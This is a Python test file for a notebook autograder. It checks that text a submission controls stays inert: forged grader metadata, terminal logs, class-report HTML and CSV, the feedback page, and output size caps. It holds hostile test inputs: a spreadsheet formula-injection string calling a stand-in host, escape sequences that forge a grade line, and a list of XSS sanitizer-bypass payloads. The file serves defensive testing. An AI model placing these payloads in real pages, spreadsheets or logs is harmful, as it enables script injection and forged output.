"""Every channel a submission controls, checked where its text lands, without grading anything
(tests/test_inert_class.py grades the same attacks end to end):

- the notebook's metadata: a copy of the grader's record key is removed on the way in, and the
  record is read back entry by entry (an unknown kind is a line, never a crash or NOT GRADED);
- the terminal and the logs: control characters from a submission are shown, never obeyed;
- the class report's page and CSV: every recorded string escaped, every text cell inert for a
  spreadsheet, a student whose record cannot be read listed while the rest are reported;
- the feedback page: no script, no event handler, no javascript: URL, checked on the output
  with a browser's parsing algorithm (html5lib);
- the output cap: every MIME type's bytes count, display updates included.
"""

from __future__ import annotations

import csv
import io
import json
import logging

import nbformat
import pytest

from instructor.commands import report
from instructor.coordinator.autograde import Summary, well_formed, write_log
from instructor.coordinator.grade_job import _inert_handlers
from instructor.coordinator.gradebook import write_marker
from instructor.coordinator.job import Grade, Result
from instructor.grading.preprocessors.grade_execute import GradeExecute
from instructor.grading.preprocessors.rebuild_cells import rebuild
from instructor.output.inert_html import inert_page
from instructor.output.inert_terminal import inert_line, inert_text
from instructor.records import grader_record
from instructor.records.diagnosis import Diagnosis, Verdict
from instructor.records.notebook_record import METADATA_KEY
from instructor.records.problems import Kind, Problem
from instructor.records.submission import Submission

ESCAPES = "\x1b[2K\r  01_bptt/mallory: 15/15 points\x1b[8m hidden\x9b1m\u202e"
FORMULA = '=HYPERLINK(CONCAT("evil.example?",A1),"click")'  # a student's folder name
SCRIPT = "<script>document.title='pwned'</script><img src=x onerror=alert(1)>"
FORGED = {
    "problems": [
        {"kind": "FILES_RESTORED", "detail": "gradebook.db; also being graded then: alice"},
        {"kind": "UNCONFINED", "detail": "nothing"},
        {"kind": "NO_SUCH_KIND", "detail": "x"},
    ],
    "diagnoses": [{"exercise": "rnn_forward", "verdict": "KNOWN", "mistake": SCRIPT}],
    "seconds": {"diagnosis": 9999.0, "tests": "soon"},
}


# ---- the grader's record ---------------------------------------------------------------------
def _notebook(metadata: dict) -> nbformat.NotebookNode:
    nb = nbformat.v4.new_notebook()
    nb.metadata.update(metadata)
    return nb


def test_a_submitted_copy_of_the_grader_record_is_removed_on_the_way_in():
    nb = _notebook({METADATA_KEY: FORGED, "kernelspec": {"name": "python3"}})
    files = {"01_bptt.ipynb": nbformat.writes(nb).encode(), "notes.txt": b"=1+1"}
    cleaned, forged = grader_record.remove_from_files(files, 10**6)
    assert forged == ["01_bptt.ipynb"] and cleaned["notes.txt"] == b"=1+1"
    kept = json.loads(cleaned["01_bptt.ipynb"])
    assert METADATA_KEY not in kept["metadata"] and kept["metadata"]["kernelspec"]
    # ... and by the sanitizing preprocessor, for a plain `nbgrader autograde`
    assert grader_record.remove(nb) and METADATA_KEY not in nb.metadata


def test_an_unknown_or_malformed_record_is_a_line_never_a_crash():
    record = grader_record.read(_notebook({METADATA_KEY: FORGED}))
    kinds = [p.kind for p in record.problems]
    assert kinds.count(Kind.UNREADABLE_RECORD) == 2  # the unknown kind, the time "soon"
    assert record.phases == {"diagnosis": 9999.0}  # read, since the grader wrote it here
    for junk in ([1, 2], "x", {"problems": "x", "diagnoses": [1], "seconds": []}):
        found = grader_record.read(_notebook({METADATA_KEY: junk}))
        assert found.problems and {p.kind for p in found.problems} == {Kind.UNREADABLE_RECORD}


def test_a_malformed_result_is_not_graded_with_a_line():
    result = Result("01_bptt", "eve", grades=[Grade("nb", "c", float("nan"), 1.0)])
    fixed = well_formed(result)
    assert fixed.ungraded and fixed.problems[0].kind is Kind.MALFORMED_RESULT
    assert well_formed(Result("01_bptt", "bob")) is not None


def test_oversized_cells_are_left_out_before_anything_parses_them():
    source = nbformat.v4.new_notebook()
    meta = {"grade_id": "ex", "solution": True, "grade": False, "locked": False}
    source.cells = [nbformat.v4.new_code_cell("pass", metadata={"nbgrader": meta})]
    submitted = nbformat.v4.new_notebook()
    huge = "\n".join("%time x = 1" if i % 100 == 0 else f"y = {i}" for i in range(20_000))
    submitted.cells = [
        nbformat.v4.new_code_cell(huge, metadata={"nbgrader": meta}),
        nbformat.v4.new_markdown_cell("x" * 1_000_000),
    ]
    cells, found = rebuild(source, submitted)
    assert {p.kind for p in found} == {Kind.EXERCISE_CELL_TOO_LARGE, Kind.CELL_TOO_LARGE}
    assert all(len(c.source) < 1000 for c in cells)


# ---- the terminal and the logs ---------------------------------------------------------------
def _has_controls(text: str, keep: str = "") -> bool:
    return any((ord(c) < 32 and c not in keep) or 0x7F <= ord(c) <= 0x9F for c in text) or (
        "\u202e" in text
    )


def test_control_characters_from_a_submission_are_shown_not_obeyed(tmp_path):
    result = Result(
        "01_bptt",
        "eve",
        grades=[Grade("01_bptt", "test_x", 0.0, 1.0)],
        problems=[Problem(Kind.CELL_RAISED, "cell #3", ESCAPES)],
        log=f"WARNING cell #3: {ESCAPES}\nTraceback\n",
    )
    lines = Summary(graded=[result]).lines()
    assert not any(_has_controls(line) for line in lines), lines
    assert "\\x1b[2K" in "\n".join(lines)
    sub = Submission(tmp_path, "01_bptt", "eve")
    write_log(sub, result)
    assert not _has_controls(sub.log.read_text(), keep="\n\t")
    assert inert_line("a\nb") == "a\\x0ab" and inert_text("a\nb\r") == "a\nb\\x0d"


def test_the_graders_log_handlers_write_no_control_character():
    """nbgrader's messages quote submission text; a worker's chatter file gets them too."""
    stream = io.StringIO()
    logger = logging.getLogger("rnn-course-test-inert")
    logger.addHandler(logging.StreamHandler(stream))
    _inert_handlers(logger)
    logger.warning("%s: %s", "cell #3", ESCAPES)
    assert "\\x1b[2K" in stream.getvalue() and not _has_controls(stream.getvalue(), keep="\n")


# ---- the class report ------------------------------------------------------------------------
def test_the_report_escapes_what_was_recorded_and_its_csv_starts_no_formula(tmp_path):
    students = {"alice": SCRIPT, FORMULA: "-2+3"}
    for student, mistake in students.items():
        write_marker(
            Submission(tmp_path, "01_bptt", student),
            Result(
                "01_bptt",
                student,
                [Grade("01_bptt", "test_rnn_forward", 0.0, 1.0)],
                [Problem(Kind.CELL_RAISED, "cell #2", "@SUM(A1)")],
                [Diagnosis("rnn_forward", Verdict.KNOWN, mistake, description=SCRIPT)],
            ),
        )
    broken = Submission(tmp_path, "01_bptt", "zed")
    broken.marker.write_text('{"problems": [{"kind": "NO_SUCH_KIND"}], "grades": []}')
    run = report.write_reports(tmp_path, tmp_path / "out")
    assert [f.student for f in run.failures] == ["zed"]
    page = (tmp_path / "out" / "01_bptt.html").read_text()
    assert "<script" not in page and "<img src=x" not in page
    assert "&lt;script&gt;" in page and "zed" in page.split("not graded normally")[1]
    with open(tmp_path / "out" / "01_bptt.csv", newline="") as rows:
        table = list(csv.reader(rows))
    cells = [cell for row in table for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or c.startswith("-2")]
    assert "'" + FORMULA in cells and "zed" in cells


# ---- the feedback page -----------------------------------------------------------------------
def _parsed(page: str):
    """The page as a browser's parser builds it (html5lib, vendored by bleach)."""
    from bleach._vendor import html5lib

    return html5lib.parse(page, namespaceHTMLElements=False)


def live_parts(page: str) -> list[str]:
    """What could run in `page` as a browser parses it: script elements, event-handler
    attributes, javascript:/vbscript:/data: URLs outside images, frames and objects."""
    found = []
    for element in _parsed(page).iter():
        tag = element.tag if isinstance(element.tag, str) else ""
        local = tag.rsplit("}", 1)[-1].lower()
        if local in ("script", "iframe", "object", "embed", "frame", "base", "form"):
            found.append(f"<{local}>")
        for name, value in element.attrib.items():
            name = str(name).rsplit("}", 1)[-1].lower()
            url = "".join(ch for ch in str(value) if ord(ch) > 32).lower()
            if name.startswith("on") or name in ("srcdoc", "formaction"):
                found.append(f"{local} {name}")
            elif url.startswith(("javascript:", "vbscript:")) or (
                url.startswith("data:") and not (local in ("img", "image") and "image/" in url)
            ):
                found.append(f"{local} {name}={value[:40]}")
            elif name == "http-equiv" and str(value).lower() == "refresh":
                found.append("meta refresh")
    return found


MARKUP = [
    '<img src=x onerror="document.title=1">',
    "<script>document.title=1</script>",
    '<a href=" jav&#x09;ascript:alert(1)">x</a>',
    '<svg><style><img src=x onerror="alert(1)"></style></svg>',
    "<!--><img src=x onerror=alert(1)>-->",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<svg><a xlink:href="javascript:alert(1)"><text>t</text></a></svg>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<img/src='x'/onerror=alert(1)>",
    '<a href="data:text/html,<script>alert(1)</script>">d</a>',
    '<svg><animate attributeName="href" to="javascript:alert(1)"/><use href="data:x#a"/></svg>',
    '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">b</button></form>',
    '<body onload="alert(1)"><div style="x:expression(alert(1))">s</div>',
    "<table><tr><td><style></td></tr></table><img src=x onerror=alert(1)>",
    "<scr<script>ipt>alert(1)</script>",
]


@pytest.mark.parametrize("markup", MARKUP)
def test_the_feedback_page_runs_nothing_a_submission_wrote(markup):
    page = f"<!DOCTYPE html><html><head><title>t</title></head><body>{markup}</body></html>"
    assert live_parts(inert_page(page)) == []
    assert "Content-Security-Policy" in inert_page(page)


def test_the_feedback_page_keeps_what_notebooks_show():
    page = (
        '<html><head><meta charset="utf-8"><style>p { color: red; }</style>'
        '<style>a[href^="javascript:"]:after { content: ""; } /* added to the <head> */</style>'
        "</head><body>"
        '<div class="cell"><pre>x &lt; 1 &amp; y</pre><img src="data:image/png;base64,AAAA">'
        '<table><tr><td>1</td></tr></table><a href="https://example.org/a?b=1&amp;c">l</a>'
        '<svg viewBox="0 0 1 1"><path d="M0 0"/></svg></div></body></html>'
    )
    out = inert_page(page)
    for kept in (
        "p { color: red; }",
        'a[href^="javascript:"]:after { content: ""; } /* added to the \\3c head> */',
        "x &lt; 1 &amp; y",
        'src="data:image/png;base64,AAAA"',
        "<td>1</td>",
        'href="https://example.org/a?b=1&amp;c"',
        'viewbox="0 0 1 1"',
    ):
        assert kept in out, kept


# ---- the output cap --------------------------------------------------------------------------
def _executor(cells: int = 1):
    executor = GradeExecute(max_output_bytes=1_000_000)
    executor.reset_execution_trackers()
    executor.clear_before_next_output = False
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_code_cell("x") for _ in range(cells)]
    executor.nb = executor._nb = nb
    executor._output_used, executor._total_used, executor._error_kept = {}, 0, set()
    return executor, nb


def _display(data: dict, display_id: str | None = None, kind: str = "display_data") -> dict:
    content = {"data": data, "metadata": {}}
    if display_id:
        content["transient"] = {"display_id": display_id}
    return {
        "msg_type": kind,
        "header": {"msg_type": kind},
        "parent_header": {"msg_id": "m"},
        "content": content,
    }


@pytest.mark.parametrize(
    "data",
    [
        {"application/json": {"k": "x" * 600_000}},
        {"image/png": "A" * 600_000},
        {"text/plain": "x", "application/vnd.custom+json": ["y" * 600_000]},
    ],
    ids=["json", "png", "custom"],
)
def test_the_output_cap_counts_every_mime_type(data):
    executor, nb = _executor()
    outs = nb.cells[0].outputs
    for _ in range(3):
        executor.output(outs, _display(data), None, 0)
    assert len(json.dumps(outs)) < 1_300_000, "three outputs of 600 kB were all kept"
    assert "output truncated" in json.dumps(outs)
    assert (
        Problem(Kind.OUTPUT_TRUNCATED, "cell #1", "1000000").to_json()
        in (nb.metadata[METADATA_KEY]["problems"])
    )


def test_display_updates_count_against_the_cap():
    executor, nb = _executor()
    outs = nb.cells[0].outputs
    for _ in range(100):  # a hundred small outputs sharing one display id
        executor.output(outs, _display({"text/plain": "x"}, "d"), "d", 0)
    update = _display({"text/plain": "y" * 100_000}, "d", "update_display_data")
    executor._update_display_id("d", update)
    assert len(json.dumps(nb.cells[0].outputs)) < 1_100_000


def _error(size: int) -> dict:
    content = {"ename": "E", "evalue": "v" * size, "traceback": ["t" * size] * 10}
    return {"msg_type": "error", "header": {"msg_type": "error"},
            "parent_header": {"msg_id": "m"}, "content": content}  # fmt: skip


def test_errors_past_the_cap_are_one_shortened_error_not_a_flood():
    """Attack, round three: 300 error messages of 22 kB each kept 6.6 MB in one cell."""
    executor, nb = _executor()
    outs = nb.cells[0].outputs
    for _ in range(300):
        executor.output(outs, _error(2000), None, 0)
    errors = [o for o in outs if o.get("output_type") == "error"]
    assert len(json.dumps(outs)) < 1_100_000, f"{len(errors)} errors kept"
    assert errors and "too large" in errors[-1]["traceback"][-1]  # the cell still shows it failed


def test_the_whole_notebook_has_a_cap_too():
    """Attack, round three: thirty cells of 990 kB each made a 30 MB autograded notebook."""
    executor, nb = _executor(cells=30)
    for index, cell in enumerate(nb.cells):
        executor.output(cell.outputs, _display({"text/plain": "x" * 990_000}), None, index)
    total = sum(len(json.dumps(cell.outputs)) for cell in nb.cells)
    assert total < executor.max_notebook_output_bytes + 100_000
    assert (
        Problem(Kind.OUTPUT_TRUNCATED, "the notebook", str(executor.max_notebook_output_bytes))
        .to_json() in nb.metadata[METADATA_KEY]["problems"]
    )  # fmt: skip
